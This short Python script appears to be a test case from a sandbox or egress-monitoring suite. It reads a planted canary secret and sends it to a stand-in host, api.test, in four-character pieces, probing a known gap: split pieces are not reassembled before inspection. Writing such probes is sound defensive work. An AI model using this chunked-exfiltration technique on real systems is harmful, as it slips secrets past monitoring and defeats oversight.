# Sends what is in a planted file over many requests, a few letters each.
# network: held
# open: what is cut in pieces is not put together before it is looked at
from prelude import TOLD, canary, get, say

word = canary().decode()
for at in range(0, len(word), 4):
    print(say(get(f"http://api.test:{TOLD['WEB']}/?piece={word[at : at + 4]}"))[:100])
print("tried")
